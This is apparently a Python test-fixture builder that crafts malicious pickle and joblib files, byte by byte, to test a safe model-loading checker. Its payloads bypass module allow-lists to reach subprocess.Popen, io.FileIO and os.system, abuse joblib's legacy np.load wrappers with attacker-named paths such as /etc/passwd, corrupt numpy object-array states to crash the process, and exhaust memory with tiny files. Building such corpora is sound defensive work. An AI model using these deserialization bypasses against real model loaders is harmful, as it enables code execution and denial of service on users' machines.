"""Pickle and joblib, round two: allow-list bypasses through allowed modules, joblib's own array
reader (legacy np.load wrappers, object arrays, shapes), array states numpy trusts, and tiny files
that exhaust memory or never end. Each file is built byte by byte the way an attacker would, not
through our checks' vocabulary."""
from __future__ import annotations

import pickle
import zlib
from pathlib import Path

from tests.attacks.build_corpus import Attack, _s

_PROTO4 = b"\x80\x04"


def _int(n: int) -> bytes:
    """LONG1 for any int (BININT only holds 32 bits)."""
    raw = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _stack_global(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + b"\x93"


def _argv_list(*items: str) -> bytes:
    return b"]" + b"(" + b"".join(_s(i) for i in items) + b"e"  # EMPTY_LIST, MARK, items, APPENDS


def _popen_via(module: str, marker: str) -> bytes:
    """subprocess.Popen(['touch', marker]) reached as module + dotted name 'subprocess.Popen'."""
    return _PROTO4 + _stack_global(module, "subprocess.Popen") + _argv_list("touch", marker) + b"\x85R."


def _fileio_via(module: str, name: str, marker: str) -> bytes:
    """io.FileIO(marker, 'w'): creates the marker file when constructed."""
    return _PROTO4 + _stack_global(module, name) + _s(marker) + _s("w") + b"\x86R."


def _global_opcode(module: str, name: str, marker: str) -> bytes:
    """GLOBAL (text) opcode inside a protocol-4 stream, so the unpickler walks the dotted name."""
    return _PROTO4 + f"c{module}\n{name}\n".encode() + _argv_list("touch", marker) + b"\x85R."


def _inst_opcode(module: str, name: str, marker: str) -> bytes:
    return _PROTO4 + b"(" + _argv_list("touch", marker) + f"i{module}\n{name}\n".encode() + b"."


def _memo_walk(module: str, name: str, marker: str) -> bytes:
    """module and dotted name memoized and popped, fetched back with BINGET before STACK_GLOBAL."""
    return (_PROTO4 + _s(module) + b"\x94" + b"0" + _s(name) + b"\x94" + b"0" + b"h\x00h\x01\x93"
            + _argv_list("touch", marker) + b"\x85R.")


def _call_ints(module: str, name: str, *args: int) -> bytes:
    return _PROTO4 + _stack_global(module, name) + b"(" + b"".join(_int(a) for a in args) + b"tR."


class _Reduce:
    def __init__(self, func, args, state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


def _bad_object_array(state: tuple) -> bytes:
    """numpy's own array pickle (_reconstruct + BUILD) with a crafted object-array state."""
    import numpy as np

    return pickle.dumps(_Reduce(np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), state), protocol=4)


def _joblib_object_array(inner: bytes, shape: tuple) -> bytes:
    """A joblib stream: a NumpyArrayWrapper for an object array, then the nested pickle joblib reads for it."""
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    outer = pickle.dumps(NumpyArrayWrapper(np.ndarray, shape, "C", np.dtype("O")), protocol=4)  # one frame: BUILD, STOP
    return outer + inner


def _joblib_raw_array(shape: tuple, dtype: str, data: bytes) -> bytes:
    import numpy as np
    from joblib.numpy_pickle import NumpyArrayWrapper

    return pickle.dumps(NumpyArrayWrapper(np.ndarray, shape, "C", np.dtype(dtype)), protocol=4) + b"\x00" + data


def _legacy_wrapper(cls_name: str, payload: Path) -> bytes:
    import numpy as np
    from joblib import numpy_pickle_compat

    wrapper = getattr(numpy_pickle_compat, cls_name).__new__(getattr(numpy_pickle_compat, cls_name))
    wrapper.__dict__.update({"filename": str(payload), "subclass": np.ndarray, "allow_mmap": False, "init_args": (np.ndarray, (0,), "b"),
                             "state": (1, (1,), np.dtype("O"), False, None)})
    return pickle.dumps({"model": wrapper}, protocol=2)


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    import os

    files: dict[str, tuple[bytes, str, bool]] = {}  # name -> (bytes, expect, runs_code)

    def add(name: str, data: bytes, expect: str = "unsafe", runs_code: bool = True) -> None:
        files[name] = (data, expect, runs_code)

    # 1. allow-list bypass: a dotted name walked through an allowed module's attributes
    add("pandas_localization_popen.pkl", _popen_via("pandas._config.localization", marker))
    add("skops_card_parser_popen.pkl", _popen_via("skops.card._parser", marker))
    add("numpy_format_impl_fileio.pkl", _fileio_via("numpy.lib._format_impl", "io.FileIO", marker))
    add("scipy_sparse_deep_walk_fileio.pkl", _fileio_via("scipy.sparse._base", "np.lib._format_impl.io.FileIO", marker))
    add("global_opcode_localization_popen.pkl", _global_opcode("pandas._config.localization", "subprocess.Popen", marker))
    add("inst_opcode_skops_popen.pkl", _inst_opcode("skops.card._parser", "subprocess.Popen", marker))
    add("memo_walk_localization_popen.pkl", _memo_walk("pandas._config.localization", "subprocess.Popen", marker))
    add("numpy_configtool_path_reexport.pkl", _PROTO4 + _stack_global("numpy._configtool", "Path") + _s(marker) + b"\x85R.")
    add("scipy_netcdf_file_writes.pkl", _fileio_via("scipy.io._netcdf", "netcdf_file", marker))
    add("numpy_top_memmap_writes.pkl", _PROTO4 + _stack_global("numpy", "memmap") + b"(" + _s(marker) + _s("uint8") + _s("w+") + _int(0)
        + _int(1) + b"\x85tR.")
    # calls that are not constructors: a stored function (ufunc), a partial, a rebuild helper given a callable
    add("ufunc_called_while_loading.pkl", _PROTO4 + _stack_global("numpy", "add") + b"(" + _int(1) + _int(2) + b"tR.", runs_code=False)
    add("partial_call_bypasses_bounds.pkl", _PROTO4 + _stack_global("functools", "partial") + _stack_global("builtins", "bytearray")
        + _int(1 << 30) + b"\x86R" + b")R.", runs_code=False)
    add("generator_ctor_calls_bytearray.pkl", _PROTO4 + _stack_global("numpy.random._pickle", "__generator_ctor") + _int(1 << 30)
        + _stack_global("builtins", "bytearray") + b"\x86R.", runs_code=False)

    # getattr is allowed only as a method lookup on a model object, and the bound method is never called
    empty_array = (_stack_global("numpy._core.multiarray", "_reconstruct") + _stack_global("numpy", "ndarray")
                   + _int(0) + b"\x85" + _s("b") + b"\x87R")
    add("getattr_tofile_then_call.pkl", _PROTO4 + _stack_global("builtins", "getattr") + empty_array + _s("tofile") + b"\x86R"
        + _s(marker) + b"\x85R.")
    add("getattr_dunder_globals.pkl", _PROTO4 + _stack_global("builtins", "getattr")
        + _stack_global("sklearn.base", "clone") + _s("__globals__")
        + b"\x86R.", runs_code=False)

    # 2. joblib's legacy wrappers: np.load(<path named in the file>, allow_pickle=True), a second unpickler
    payload = out / "payload_pickle.npy"
    payload.write_bytes(pickle.dumps(_Reduce(os.system, (f"touch {marker}",)), protocol=2))
    add("joblib_ndarraywrapper_np_load.joblib", _legacy_wrapper("NDArrayWrapper", payload))
    add("joblib_ndarraywrapper_compressed.joblib", zlib.compress(_legacy_wrapper("NDArrayWrapper", payload)))
    add("joblib_zndarraywrapper_reads_path.joblib", _legacy_wrapper("ZNDArrayWrapper", Path("/etc/passwd")))
    add("pickle_with_ndarraywrapper.pkl", _legacy_wrapper("NDArrayWrapper", payload))

    # 3. object arrays: numpy trusts the state (segfault), in joblib's nested stream and in plain pickles
    import numpy as np

    short = (1, (2,), np.dtype("O"), False, [])
    add("joblib_object_array_short_list.joblib", _joblib_object_array(_bad_object_array(short), (2,)), "input", runs_code=False)
    add("joblib_object_array_empty_shape.joblib", _joblib_object_array(_bad_object_array((1, (0,), np.dtype("O"), False, [1])), (0,)),
        "input", runs_code=False)
    add("joblib_object_array_compressed.joblib", zlib.compress(_joblib_object_array(_bad_object_array(short), (2,))), "input",
        runs_code=False)
    add("joblib_object_array_runs_system.joblib",
        _joblib_object_array(pickle.dumps(_Reduce(os.system, (f"touch {marker}",)), protocol=4), (1,)))
    add("ndarray_four_tuple_state.pkl", _bad_object_array(((2,), np.dtype("O"), False, [])), "input", runs_code=False)
    add("masked_array_short_object_state.pkl", pickle.dumps(_Reduce(np.ma.core._mareconstruct, (np.ma.MaskedArray, np.ndarray, (0,), "b"),
                                                                    (1, (2,), np.dtype("O"), False, [], b"", None)), protocol=4),
        "input", runs_code=False)

    # 4. resources: tiny files that allocate gigabytes or never end
    add("bytearray_1gib.pkl", _call_ints("builtins", "bytearray", 1 << 30), runs_code=False)
    add("bytes_8gib.pkl", _call_ints("builtins", "bytes", 1 << 33), runs_code=False)
    add("deque_range_forever.pkl", _PROTO4 + _stack_global("collections", "deque") + b"(" + _stack_global("builtins", "range")
        + _int(1 << 62) + b"\x85R" + _int(0) + b"tR.", runs_code=False)
    add("list_range_1e12.pkl", _PROTO4 + _stack_global("builtins", "list") + _stack_global("builtins", "range") + _int(10 ** 12)
        + b"\x85R\x85R.", runs_code=False)
    add("reconstruct_1tib.pkl", _PROTO4 + _stack_global("numpy._core.multiarray", "_reconstruct") + _stack_global("numpy", "ndarray")
        + _int(1 << 40) + b"\x85" + _s("b") + b"\x87R.", runs_code=False)
    add("ndarray_ctor_1tib.pkl", _PROTO4 + _stack_global("numpy", "ndarray") + _int(1 << 40) + b"\x85\x85R.", runs_code=False)
    add("numpy_void_1gib.pkl", _call_ints("numpy", "void", 1 << 30), runs_code=False)
    add("csr_matrix_huge_shape.pkl", _PROTO4 + _stack_global("scipy.sparse._csr", "csr_matrix") + _int(1 << 40) + _int(1) + b"\x86\x85R.",
        runs_code=False)
    add("reconstructor_bytearray_base.pkl", _PROTO4 + _stack_global("copyreg", "_reconstructor") + _stack_global("builtins", "bytearray")
        + _stack_global("builtins", "bytearray") + _int(1 << 31) + b"\x87R.", runs_code=False)
    add("range_index_2e18.pkl", _PROTO4 + _stack_global("pandas.core.indexes.base", "_new_Index")
        + _stack_global("pandas", "RangeIndex") + b"}" + b"(" + _s("start") + _int(0) + _s("stop") + _int(1 << 61)
        + _s("step") + _int(1) + b"u" + b"\x86R.", runs_code=False)
    add("joblib_wrapper_shape_1tib.joblib", _joblib_raw_array((1 << 37,), "f8", b"\x00" * 64), "input", runs_code=False)
    add("joblib_wrapper_shape_compressed.joblib", zlib.compress(_joblib_raw_array((1 << 37,), "f8", b"\x00" * 64)), "input",
        runs_code=False)

    attacks = []
    for name, (data, expect, runs_code) in files.items():
        (out / name).write_bytes(data)
        attacks.append(Attack(name, out / name, expect, runs_code))
    return attacks


def native_crash_files(out: Path) -> dict[str, Path]:
    """The files that crash numpy when loaded without our checks (for the subprocess proof)."""
    import numpy as np

    out.mkdir(parents=True, exist_ok=True)
    short = (1, (2,), np.dtype("O"), False, [])
    files = {"joblib": out / "short.joblib", "pickle4": out / "four.pkl"}
    files["joblib"].write_bytes(_joblib_object_array(_bad_object_array(short), (2,)))
    files["pickle4"].write_bytes(_bad_object_array(((2,), np.dtype("O"), False, [])))
    return files

